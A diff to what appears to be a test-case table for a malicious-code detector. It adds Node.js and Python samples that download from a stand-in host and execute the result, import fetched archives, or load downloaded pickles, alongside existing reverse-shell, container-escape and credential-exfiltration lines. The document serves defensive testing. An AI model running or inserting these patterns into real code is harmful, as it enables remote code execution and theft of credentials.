@@ -8,7 +8,13 @@ _OPEN: Final = "from urllib.request import urlopen\n"
 _GET: Final = "import os, requests, subprocess as s, sys\nfrom urllib.request import urlretrieve, urlopen\nU = 'https://c.example.invalid/i'\n"
 _SEND: Final = "import os, requests, boto3, keyring, logging.handlers\nU = 'https://c.example.invalid/'\n"
 _WALK: Final = f"{_SEND}for r, _, fs in os.walk('/'):\n    for f in fs:\n        if f.endswith("
+_NODE: Final = (
+    "const fs = require('fs'), h = require('https'), cp = require('child_process'), path = require('path');\n"
+    "const {pipeline} = require('stream'), U = 'https://c.example.invalid/i';\n"
+)
+_INTO: Final = "fs.createWriteStream('/tmp/i')"
 SH: Final = "demo/i.sh"
+JS: Final = "demo/work.js"
 
 CASES: Final = (
     # Addresses that something is appended to.
@@ -127,6 +133,90 @@ CASES: Final = (
     Case("C3", "hit", "high", "socat tcp:192.0.2.7:4444 exec:sh,pty\n", SH),
     Case("C3", "hit", "high", "docker run -v /:/h c.example.invalid/x chroot /h sh -c id\n", SH),
     Case("C3", "twin", None, "perl -e 'print 1'\nsocat tcp:192.0.2.7:1 -\ndocker run -v /:/h:ro demo/x\n", SH),
+    # Streams of Node that go into a file, downloads under their own names, archives that are imported from.
+    Case(
+        "C3",
+        "hit",
+        "high",
+        f"{_NODE}h.get(U, r => {{ const f = fs.createWriteStream('/tmp/i'); r.pipe(f);\n"
+        "  f.on('finish', () => cp.spawn('/tmp/i')) })\n",
+        JS,
+    ),
+    Case(
+        "C3",
+        "hit",
+        "high",
+        f"{_NODE}h.get(U, r => {{ r.pipe({_INTO}); r.on('end', () => cp.exec('sh /tmp/i')) }})\n",
+        JS,
+    ),
+    Case(
+        "C3",
+        "evasion",
+        "medium",
+        f"{_NODE}function f(d) {{ const p = path.join(d, 'i'); h.get(U, r => pipeline(r,\n"
+        "  fs.createWriteStream(p), () => cp.spawn('sh', [p]))) }\n",
+        JS,
+    ),
+    Case("C3", "twin", None, f"{_NODE}h.get(U, r => r.pipe({_INTO}));\nfunction f() {{ cp.exec('ls /tmp/i') }}\n", JS),
+    Case(
+        "C3",
+        "twin",
+        None,
+        f"{_NODE}function g() {{ h.get(U) }}\n"
+        f"function f() {{ fs.createReadStream('a').pipe({_INTO}); cp.exec('/tmp/i') }}\n",
+        JS,
+    ),
+    Case(
+        "C3",
+        "twin",
+        None,
+        f"{_NODE}function g() {{ h.get(U) }}\n{chr(10) * 30}function f(r) {{ r.pipe({_INTO}); cp.exec('/tmp/i') }}\n",
+        JS,
+    ),
+    Case(
+        "C3",
+        "twin",
+        None,
+        f"{_NODE}function f(r) {{ h.get(U); r.pipe(fs.createWriteStream()); cp.exec('/tmp/i') }}\n"
+        f"{chr(10) * 30}const s = fs.createWriteStream('/tmp/i');\n{chr(10) * 30}"
+        "function g(q) { h.get(U); q.pipe(s); cp.exec('/tmp/i') }\n",
+        JS,
+    ),
+    Case("C3", "hit", "high", f"{_GET}s.run(['curl', '-O', U + '/x.sh'])\ns.run(['bash', 'x.sh'])\n"),
+    Case("C3", "hit", "high", f"{_GET}s.run(['wget', U + '/x.sh'])\ns.run(['bash', './x.sh'])\n"),
+    Case(
+        "C3",
+        "evasion",
+        "high",
+        f"{_GET}os.system('cd /tmp; curl -sSLO ' + U + '/x.sh?v=1')\nos.system('sh /tmp/x.sh')\n",
+    ),
+    Case("C3", "evasion", "high", f"{_GET}os.system('wget -q ' + U + '/x.sh -P /tmp/')\nos.system('sh /tmp/x.sh')\n"),
+    Case("C3", "twin", None, f"{_GET}s.run(['wget', U + '/x.tgz'])\ns.run(['tar', 'xf', 'x.tgz'])\n"),
+    Case("C3", "twin", None, f"{_GET}s.run(['curl', '-I', U + '/x.sh'])\ns.run(['bash', 'x.sh'])\n"),
+    Case(
+        "C3",
+        "hit",
+        "high",
+        f"{_GET}import zipfile as z\nurlretrieve(U, 'q.zip')\nz.ZipFile('q.zip').extractall('/tmp/q')\n"
+        "sys.path.insert(0, '/tmp/q')\n",
+    ),
+    Case(
+        "C3",
+        "evasion",
+        "medium",
+        f"{_GET}import shutil\ndef f(d, p):\n    urlretrieve(U, p)\n    shutil.unpack_archive(p, d)\n"
+        "    sys.path.append(d)\n",
+    ),
+    Case("C3", "evasion", "high", f"{_GET}urlretrieve(U, '/tmp/q.whl')\nsys.path.insert(0, '/tmp/q.whl')\n"),
+    Case(
+        "C3",
+        "twin",
+        None,
+        f"{_GET}import tarfile\nurlretrieve(U, 'q.tgz')\ntarfile.open('q.tgz').extractall(path='data')\n"
+        f"tarfile.open('z.tgz')\nsys.path.insert(0, 'lib')\n{chr(10) * 30}def f(y):\n    y().extractall('lib')\n",
+    ),
+    Case("C3", "hit", "medium", f"{_GET}import joblib\nurlretrieve(U, '/tmp/m')\njoblib.load('/tmp/m')\n"),
+    Case("C3", "twin", None, f"{_GET}import joblib\nurlretrieve(U, '/tmp/m')\njoblib.load('/tmp/n')\n"),
     # Keys out of stores, and found by their names.
     Case("C4", "hit", "high", f"{_SEND}c = boto3.Session().get_credentials()\nrequests.post(U, json=c.x())\n"),
     Case("C4", "hit", "medium", f"{_SEND}requests.post(U, data=keyring.get_password('a', 'b'))\n"),
